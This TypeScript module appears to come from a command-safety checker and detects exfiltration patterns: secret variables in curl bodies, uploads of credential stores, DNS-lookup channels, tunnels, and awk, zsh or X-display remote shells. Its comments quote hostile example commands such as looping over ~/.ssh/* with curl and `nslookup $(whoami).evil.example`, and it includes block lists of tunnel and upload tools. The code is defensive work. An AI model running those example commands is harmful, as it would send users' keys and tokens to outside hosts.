/**
 * More ways bytes leave the machine: secret variables in what a sender transmits, object-store
 * and sync tools given a credential store or files from outside the workspace, archives and
 * encodings of outside files, name lookups that carry command output, and tunnels.
 */
import { canonicalPath, resolvePath } from '../paths';
import { DYN, isDynamic } from '../words';
import { isSecretPath, SECRET_NAME } from './secrets';
import type { CommandView, HitSink } from './types';
import { splitOptions } from './types';

const VARIABLE = /\$\{?([A-Za-z_]\w*)/g;
/** Options whose value is meant to carry a credential to that same server: headers and logins. */
const AUTH_OPTIONS = new Set([
  '-H',
  '--header',
  '-u',
  '--user',
  '-U',
  '--proxy-user',
  '--oauth2-bearer',
  '--password',
  '--http-password',
  '--proxy-password',
]);

function authValue(arg: string): boolean {
  if (/^-[HuU]./.test(arg)) return true;
  const eq = arg.indexOf('=');
  return arg.startsWith('--') && eq > 0 && AUTH_OPTIONS.has(arg.slice(0, eq));
}

/**
 * `curl -d "token=$GITHUB_TOKEN" https://…`: a credential variable in the body, URL or remote
 * command. Headers and logins (`-H "Authorization: Bearer $T"`, `-u user:$PASSWORD`) are how a
 * credential reaches its own service, so they stay quiet.
 */
export function secretVariableSent(cmd: CommandView): string | null {
  const httpie = cmd.name === 'http' || cmd.name === 'https' || cmd.name === 'xh';
  for (let i = 0; i < cmd.words.length; i++) {
    const w = cmd.words[i];
    if (!w || w.raw.startsWith("'")) continue;
    if (AUTH_OPTIONS.has(w.raw)) {
      i++;
      continue;
    }
    if (authValue(w.raw) || (httpie && /^[\w-]+:(?!=)/.test(w.value))) continue;
    for (const m of w.raw.matchAll(VARIABLE)) if (SECRET_NAME.test(m[1] ?? '')) return `$${m[1]}`;
  }
  return null;
}

/** Object stores and sync tools: any credential store among their operands is uploaded. */
export const OBJECT_STORES = new Set([
  'aws',
  'gsutil',
  'gcloud',
  'rclone',
  's3cmd',
  'mc',
  'az',
  'azcopy',
  'b2',
]);

/** A file the sender reads from outside the workspace, temp folders included: a copy of a secret goes there first. */
export function outsideFile(cmd: CommandView, file: string): boolean {
  if (isDynamic(file)) return false;
  const p = canonicalPath(resolvePath(cmd.cwd, file));
  const ws = cmd.workspace ? canonicalPath(cmd.workspace) : null;
  if (ws !== null && (p === ws || p.startsWith(`${ws.replace(/\/$/, '')}/`))) return false;
  return p.startsWith('/') || p.startsWith('~') || p === '..' || p.startsWith('../');
}

const LOOPBACK_HOST = /^(?:localhost|127(?:\.\d{1,3}){3}|\[::1\]|0\.0\.0\.0)$/i;

/** Hosts a sender names: URLs, `user@host:path` copies, and `localhost:3000/…` as curl reads it. */
function namedHosts(cmd: CommandView): string[] {
  const hosts: string[] = [];
  for (const a of cmd.args) {
    const url = /^[a-z][\w+.-]*:\/\/(?:[^@/]*@)?(\[[^\]]*\]|[^/:?#]*)/i.exec(a);
    const bare = url ? null : /^(?:[\w.-]+@)?(\[[^\]]*\]|[\w.-]+):(?!\/\/)/.exec(a);
    const host = url?.[1] ?? bare?.[1] ?? (LOOPBACK_HOST.test(a) ? a : undefined);
    if (host) hosts.push(host);
  }
  return hosts;
}

/** Whether a sender may reach another machine: any host it names, or none it names, is not loopback. */
export function sendsOffMachine(cmd: CommandView): boolean {
  const hosts = namedHosts(cmd);
  return hosts.length === 0 || !hosts.every((h) => LOOPBACK_HOST.test(h));
}

/**
 * `for f in ~/.ssh/*; do curl -d @"$f" …`, `find ~ -exec curl -F f=@{} …`: an uploaded file the
 * shell only picks at run time, sent anywhere but this machine. Which file that is cannot be
 * known here, so it may be a key; returns the file as written, or null.
 */
export function runtimeFile(cmd: CommandView, files: readonly string[]): string | null {
  const picked = files.find((f) => isDynamic(f));
  return picked === undefined || !sendsOffMachine(cmd) ? null : shownFile(picked);
}

/** A path with its run-time parts shown as `…`. */
export function shownFile(path: string): string {
  return path.split(DYN).join('…');
}

/** A remote destination of a copy: `s3://…`, `gs://…`, rclone's `remote:path`. */
const REMOTE_DEST =
  /^(?:s3|gs|az|r2|b2|wasbs?|abfss?):\/\/|^https:\/\/[\w.-]+\.(?:blob\.core\.windows\.net)|^[\w-]+:(?!\/\/)/;
const COPY_VERBS = new Set(['cp', 'copy', 'copyto', 'sync', 'move', 'moveto', 'mv', 'rsync', 'put']);

export function storeUpload(cmd: CommandView, out: HitSink): void {
  const secret = cmd.args.find((a) => !a.startsWith('-') && isSecretPath(resolvePath(cmd.cwd, a)));
  if (secret) return out.hit('secret-exfiltration', `${cmd.name} copies ${secret}`);
  // `rclone copy ~ remote:`, `aws s3 cp ~/notes s3://…`: the sources before a remote destination.
  const ops = splitOptions(cmd.args).operands;
  const verb = ops.findIndex((o) => COPY_VERBS.has(o));
  const dest = ops[ops.length - 1] ?? '';
  if (verb < 0 || ops.length - verb < 3 || !REMOTE_DEST.test(dest)) return;
  const source = ops.slice(verb + 1, -1).find((s) => !REMOTE_DEST.test(s) && outsideFile(cmd, s));
  if (source) out.hit('outside-upload', `${cmd.name} copies ${source}`);
}

/** Commands that put the files they name on stdout, whole, archived or encoded. */
export const FILE_READERS = new Set([
  'cat',
  'tar',
  'bsdtar',
  'zip',
  'cpio',
  'base64',
  'base32',
  'xxd',
  'od',
  'hexdump',
  'gzip',
  'bzip2',
  'xz',
  'zstd',
]);

/** `cat "$f"`, `base64 {}`: a file picked only at run time, on stdout. */
export function runtimeOutput(cmd: CommandView): string | null {
  if (!FILE_READERS.has(cmd.name)) return null;
  const picked = splitOptions(cmd.args).operands.find((o) => isDynamic(o));
  return picked === undefined ? null : shownFile(picked);
}

/** `tar cz ~/.config`, `base64 ~/notes.txt`: a file from outside the workspace, on stdout. */
export function outsideOutput(cmd: CommandView): string | null {
  if (!FILE_READERS.has(cmd.name)) return null;
  return splitOptions(cmd.args).operands.find((o) => o !== '-' && outsideFile(cmd, o)) ?? null;
}

/** A name with a label known only at run time under a fixed domain: `$(whoami).evil.example`. */
const BUILT_NAME = new RegExp(`${DYN}[^\\s/]*\\.[A-Za-z0-9-]+\\.[A-Za-z]{2,}\\.?$`);

/** `nslookup $(whoami).evil.example`: the lookup delivers the label to that domain's name server. */
export function lookupChannel(cmd: CommandView, out: HitSink): void {
  // A name has at most 253 characters: only its end is read.
  const word = cmd.words.find((w) => !w.value.startsWith('-') && BUILT_NAME.test(w.value.slice(-260)));
  if (word) out.hit('lookup-channel', `${cmd.name} ${word.raw}`);
}

/** Tunnel clients that publish a local port on another machine or the internet. */
export const TUNNELS = new Set([
  'ngrok',
  'cloudflared',
  'lt',
  'localtunnel',
  'bore',
  'frpc',
  'chisel',
  'tailscale',
]);

export function tunnel(cmd: CommandView, out: HitSink): void {
  const sub = cmd.args.find((a) => !a.startsWith('-')) ?? '';
  const opens =
    cmd.name === 'cloudflared'
      ? sub === 'tunnel'
      : cmd.name === 'chisel'
        ? sub === 'client' && cmd.args.some((a) => /(?:^|:)R:/.test(a))
        : cmd.name === 'ngrok'
          ? /^(?:http|tcp|tls|start)$/.test(sub)
          : cmd.name === 'bore'
            ? sub === 'local'
            : cmd.name === 'tailscale'
              ? // `funnel` publishes a local port on the internet (`serve` only to the tailnet).
                sub === 'funnel' && !cmd.args.some((a) => /^(?:off|status|reset)$/.test(a))
              : cmd.args.length > 0 || cmd.name === 'frpc';
  if (opens) out.hit('reverse-tunnel', `${cmd.name} ${cmd.args.join(' ')}`);
}

/** gawk's `/inet/tcp/…` special files: the program reads and writes a network socket itself. */
export function awkSocket(cmd: CommandView, out: HitSink): void {
  const program = cmd.args.find((a) => /\/inet[46]?\/(?:tcp|udp)\//.test(a));
  if (program)
    out.hit('remote-shell', `${cmd.name} talks over a network socket (/inet/), the form of an awk shell`);
}

/** `xterm -display host:0`: a terminal, and the shell in it, shown on another machine's screen. */
export function remoteDisplay(cmd: CommandView, out: HitSink): void {
  // X programs spell their long options with one dash.
  const at = cmd.args.findIndex((a) => a === '-display' || a === '--display');
  const display = at < 0 ? '' : (cmd.args[at + 1] ?? '');
  const host = /^([^:]*):\d/.exec(display)?.[1];
  if (host && !/^(?:localhost|127\.\d+\.\d+\.\d+|unix|::1)$/.test(host))
    out.hit('remote-shell', `${cmd.name} -display ${display}`);
}

/** zsh's `ztcp host port` or `ztcp -l port`: a socket in the shell itself, what `zsh >&$REPLY` wires up. */
export function zshSocket(cmd: CommandView, out: HitSink): void {
  const closesOrLists = cmd.args.some((a) => /^-[a-z]*[cL]/.test(a));
  if (!closesOrLists && splitOptions(cmd.args).operands.length > 0)
    out.hit('remote-shell', `ztcp ${cmd.args.join(' ')} opens a TCP socket in the shell`);
}
